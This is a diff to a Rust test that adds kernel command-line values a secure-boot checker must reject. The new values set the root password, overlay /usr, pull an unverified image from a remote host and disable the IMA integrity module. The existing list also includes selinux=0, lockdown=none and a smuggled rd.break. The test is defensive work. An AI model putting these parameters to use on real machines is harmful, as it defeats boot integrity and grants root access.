@@ -227,6 +227,10 @@ fn adv_c40_secure_boot_refuses_dangerous_command_lines() {
         "selinux=0",
         "lockdown=none",
         "systemd.setenv=SYSTEMD_SULOGIN_FORCE=1",
+        "systemd.set_credential=passwd.plaintext-password.root:x",
+        "systemd.mount-extra=/dev/sdb1:/usr",
+        "rd.systemd.pull=raw,machine,verify=no:x:http://192.0.2.1/x",
+        "initcall_blacklist=ima_init",
         "x=\"y rd.break\"",
     ] {
         let facts = command_line(&format!("/boot/vmlinuz root=/dev/sda1 {word} ro"));
